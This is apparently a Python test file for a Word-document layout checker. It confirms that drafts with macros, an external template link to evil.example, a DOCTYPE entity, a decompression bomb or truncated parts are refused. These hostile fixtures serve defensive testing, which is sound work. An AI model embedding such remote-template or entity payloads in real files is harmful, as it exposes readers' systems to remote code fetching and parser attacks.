"""Art. 3.1.đ: drafts that are hostile, broken or too long are refused before their form is looked at."""

import io
import zipfile

import docx
import pytest
from letters_world import changed, packed, right

from app.regulation import layout_check
from app.tools.docx_layout import TooLongToCheck
from app.tools.office import HasMacros, HasOutsideContent, TruncatedFile, UnpacksTooLarge


def broken(name):
    """A right draft with something hostile or broken in it."""
    good = right()
    rels = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship ' \
           b'Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/>' \
           b"</Relationships>"
    bomb = b"<a>" + b"0" * 11_000_000 + b"</a>"
    return {
        "macros": lambda: packed(good, **{"[Content_Types]": b'<Types xmlns="http://schemas.openxmlformats.org/package/'
                                 b'2006/content-types"><Override PartName="/word/document.xml" ContentType="application'
                                 b'/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'}),
        "outside": lambda: _with_rels(good, rels),
        "part": lambda: packed(good, word__styles=b"<w:styles"),
        "no body": lambda: packed(good, word__document=b"<a/>"),
        "doctype": lambda: packed(good, word__settings=b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
        "cut": lambda: good[:3000], "bomb": lambda: packed(good, word__more=bomb),
    }[name]()


def _with_rels(data, rels):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as target:
        target.writestr("word/_rels/settings.xml.rels", rels)
    return out.getvalue()


def test_a_draft_of_too_many_paragraphs_is_refused_before_it_is_looked_at():
    def longer(document):
        document.element.body.insert(0, docx.oxml.parse_xml(
            f'<w:tbl {docx.oxml.ns.nsdecls("w")}>{"<w:tr><w:tc><w:p/></w:tc></w:tr>" * 20_000}</w:tbl>'))

    with pytest.raises(TooLongToCheck):
        layout_check.check(changed(right(), longer))


@pytest.mark.parametrize(("name", "refusal"), [
    ("macros", HasMacros), ("outside", HasOutsideContent), ("part", TruncatedFile), ("no body", TruncatedFile),
    ("doctype", TruncatedFile), ("cut", TruncatedFile), ("bomb", UnpacksTooLarge)])
def test_hostile_and_broken_drafts_are_refused_with_words(name, refusal):
    with pytest.raises(refusal):
        layout_check.check(broken(name))
